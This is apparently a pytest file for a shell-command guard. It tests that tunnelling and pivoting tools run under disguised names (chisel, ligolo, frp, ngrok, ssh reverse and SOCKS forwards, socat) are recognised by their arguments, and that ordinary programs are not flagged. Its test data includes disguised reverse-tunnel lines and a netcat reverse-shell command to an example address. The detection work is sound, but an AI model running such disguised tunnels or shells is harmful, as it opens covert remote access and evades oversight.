"""Tunnel tools that were given another name, and programs that only look a little like them."""

from __future__ import annotations

import shlex

import pytest

from guard.parse.budget import Budget
from guard.parse.programs.disguises import disguised
from guard.parse.shell import read_shell


@pytest.mark.parametrize(
    ("line", "tool"),
    [
        ("upd client 203.0.113.5:8080 R:2222:localhost:22", "chisel"),
        ("upd client https://h.example R:socks", "chisel"),
        ("upd client --auth u:p h.example:443 8000:10.0.0.1:80", "chisel"),
        ("upd server --reverse -p 443", "chisel"),
        ("agent -connect h.example:11601", "ligolo-agent"),
        ("agent -ignore-cert -connect h.example:443", "ligolo-agent"),
        ("prox -selfcert -laddr 0.0.0.0:443", "ligolo-proxy"),
        ("x -c /tmp/frpc.toml", "frpc"),
        ("x --config=frps.ini", "frps"),
        ("u local 22 --to bore.example", "bore"),
        ("x tcp 22 --authtoken abc", "ngrok"),
        ("cf tunnel --url http://localhost:8000", "cloudflared"),
        ("cf tunnel run --token abc", "cloudflared"),
        ("wt client -R tcp://2222:localhost:22 wss://h.example", "wstunnel"),
        ("g -L=rtcp://:2222/:22 -F relay+tls://h.example:1", "gost"),
        ("kworker -NfR 2222:localhost:22 u@h.example", "ssh"),
        ("kworker -N -D 1080 u@h.example", "ssh"),
        ("t -s rssocks -d 203.0.113.5 -e 99", "earthworm"),
        ("t --server-ip 203.0.113.5 --server-port 99", "rpivot"),
        ("td --tun=userspace-networking", "tailscaled"),
        ("s TCP-LISTEN:80,fork TCP:h.example:22", "socat"),
        ("n 203.0.113.5 4444 -e /bin/bash", "nc"),
    ],
)
def test_arguments_that_only_a_tunnel_tool_has(line: str, tool: str) -> None:
    """The arguments say what the program is, whatever it is called."""
    words = shlex.split(line)
    assert disguised(words[0], words) == tool
    operations = read_shell(f"/tmp/{line}", Budget()).operations
    assert tool in [o["program"] for o in operations if o["kind"] == "process.exec"]


@pytest.mark.parametrize(
    "line",
    [
        "deploy client --verbose production",
        "mytool server --port 8080",
        "mytool server",
        "app client localhost:8080",
        "app -L 10:20:30",
        "sim -D 1080 out.dat",
        "sim -R 3:4 out.dat",
        "x -c settings.toml",
        "x tunnel list",
        "x local 22",
        "x http 80",
        "render --connect a b",
        "rg -R 1:localhost:2 src",
        "x up --build",
        "x -e /bin/true 3",
    ],
)
def test_arguments_that_others_have_too(line: str) -> None:
    """What ordinary programs are given names no tunnel tool."""
    words = shlex.split(line)
    assert disguised(words[0], words) == ""


def test_a_described_program_is_never_taken_for_another() -> None:
    """`grep client R:1` stays grep."""
    operations = read_shell("grep client x R:2222:localhost:22", Budget()).operations
    assert [o["program"] for o in operations if o["kind"] == "process.exec"] == ["grep"]


def test_long_argument_lists_cost_little() -> None:
    """Only the beginning is compared, so nested repetition cannot be made to run long."""
    words = ["x", "client", *(["-a"] * 5000), "R:1"]
    assert disguised("x", words) == ""
